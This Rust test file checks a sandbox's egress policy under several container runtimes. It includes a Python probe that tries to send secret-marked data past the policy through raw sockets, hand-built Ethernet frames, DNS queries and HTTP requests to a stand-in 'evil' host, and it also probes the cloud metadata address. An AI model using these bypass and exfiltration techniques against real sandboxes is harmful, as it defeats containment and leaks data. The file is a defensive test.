//! The promises of the way out from inside a real sandbox, under each network stack that a job can have: the machine's
//! kernel and gVisor's own. What needs frames made by hand is tried in bare namespaces (`tests/egress`, `tests/fence`).

use lab::origin::port;
use lab::policies;
use lab::topology::{OTHER4, PUBLIC4, PUBLIC6, SILENT4, UNREACHABLE4, ip};
use lab::wait::eventually;
use serde_json::Value;

use super::world::World;
use crate::place::{Place, at};

const EGRESS: &str = include_str!("probes/egress.py");

/// Everything public but one network. (Where a name is denied, a connect to an address can only be judged once the
/// name is known, and is accepted first.)
const POLICY: &str = "\
policy: way-out
network: internet
deny:
  - cidr: 142.250.74.0/24
";

/// The address of a run that lives beside.
fn sibling(world: &World) -> String {
    eventually("the other run's network", || {
        let networks = world.networks();
        networks.first()?["v4"].as_str().map(str::to_owned)
    })
}

fn ended(probe: &Value, key: &str) -> (String, f64) {
    let outcome = &probe[key];
    let word = outcome[0]
        .as_str()
        .unwrap_or_else(|| panic!("no {key} in {probe}"));
    (word.to_owned(), outcome[1].as_f64().unwrap_or(f64::MAX))
}

at!(a_job_is_told_the_truth_about_every_destination_and_reaches_only_what_is_permitted: docker gvisor);
fn a_job_is_told_the_truth_about_every_destination_and_reaches_only_what_is_permitted(
    place: Place,
) {
    let world = World::on(place);
    let mut other = world.spawn(&["--policy", "none", "--timeout", "2m"], &["sleep", "100"]);
    let sibling = sibling(&world);
    let frames = world.lab.capture.mark();
    let policy = world.lab.file("way-out.yml", POLICY).display().to_string();
    let (closed, echo) = (port::CLOSED.to_string(), port::ECHO.to_string());
    let mut command = vec!["python3", "-c", EGRESS, PUBLIC4, PUBLIC6, OTHER4, SILENT4];
    command.extend([UNREACHABLE4, &sibling, &closed, &echo]);
    let said = world.run(&["--policy", &policy], &command).expect(0);
    let probe: Value =
        serde_json::from_str(said.out.trim()).unwrap_or_else(|e| panic!("{e}: {said:?}"));
    // what is permitted, in both families
    assert_eq!(
        (&probe["echo4"], &probe["echo6"]),
        (&"salute".into(), &"salute".into()),
        "{probe}"
    );
    // a connect ends as it would without a gateway
    assert_eq!(ended(&probe, "closed").0, "refused", "{probe}");
    assert_eq!(ended(&probe, "silent").0, "silence", "{probe}");
    assert!(
        !matches!(ended(&probe, "unreachable").0.as_str(), "open" | "refused"),
        "{probe}"
    );
    // a denied one at once
    for key in ["denied", "metadata", "sibling"] {
        let (outcome, seconds) = ended(&probe, key);
        assert!(outcome != "open" && outcome != "silence", "{key}: {probe}");
        assert!(seconds < 1.0, "{key}: {probe}");
    }
    assert_eq!(probe["udp"], serde_json::json!(["answers", "answers"]));
    assert_ne!(probe["udp_denied"], "answers", "{probe}");
    assert!(
        probe["name"].as_array().is_some_and(|n| !n.is_empty()),
        "{probe}"
    );
    assert!(
        probe["proxy"]
            .as_str()
            .is_some_and(|p| p.starts_with("HTTP/1.1 200")),
        "{probe}"
    );
    assert!(
        probe["proxy_denied"]
            .as_str()
            .is_some_and(|p| p.starts_with("HTTP/1.1 403")),
        "{probe}"
    );
    for address in [OTHER4, "169.254.169.254"] {
        world.lab.capture.none_to(frames, ip(address));
    }
    // what was not denied is what the capture saw
    assert!(world.lab.capture.holds(frames, b"s3cr3t-"));
    other.kill().expect("kill");
    other.wait().expect("it ends");
}

at!(a_domain_policy_holds_whatever_root_in_the_sandbox_does: docker podman rootless gvisor);
fn a_domain_policy_holds_whatever_root_in_the_sandbox_does(place: Place) {
    let world = World::on(place);
    let (frames, queries) = (world.lab.capture.mark(), world.lab.origins.queries.mark());
    // sockets below TCP, other sources, the wrong server name for a permitted address, the right one for a wrong address
    let program = "\
import json, socket, struct
reached = []
for kind, protocol in [(socket.SOCK_RAW, 1), (socket.SOCK_RAW, 255), (socket.SOCK_RAW, 17)]:
    try:
        s = socket.socket(socket.AF_INET, kind, protocol)
        s.sendto(b's3cr3t-raw' + bytes(40), ('142.250.74.110', 0))
    except OSError: pass
try:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.bind(('eth0', 0))
    s.send(bytes.fromhex('02535000000102000000000208004500003c') + b's3cr3t-frame' + bytes(40))
except OSError: pass
try: socket.getaddrinfo('s3cr3t-name.evil.sallylab.net', 80)
except OSError: pass
for host, address in [('evil.sallylab.net', None), ('ok.sallylab.net', '142.250.74.110')]:
    try:
        s = socket.create_connection((address or host, 80), 3)
        s.sendall(('GET /s3cr3t-path HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % host).encode())
        if s.recv(16).startswith(b'HTTP/1.1 200'): reached.append(host)
    except OSError: pass
s = socket.create_connection(('ok.sallylab.net', 80), 5)
s.sendall(b'GET / HTTP/1.1\\r\\nHost: ok.sallylab.net\\r\\nConnection: close\\r\\n\\r\\n')
if s.recv(15).startswith(b'HTTP/1.1 200'): reached.append('permitted')
print(json.dumps(reached))
";
    let policy = world
        .lab
        .file("domains.yml", policies::DOMAINS)
        .display()
        .to_string();
    let reached = world.probe(&["--root", "--policy", &policy], program);
    assert_eq!(reached, serde_json::json!(["permitted"]));
    assert!(
        !world.lab.origins.asked(queries, "s3cr3t-"),
        "a denied name was asked upstream"
    );
    world.lab.capture.none_to(frames, ip(OTHER4));
    assert!(
        !world.lab.capture.holds(frames, b"s3cr3t-"),
        "a secret left"
    );
}
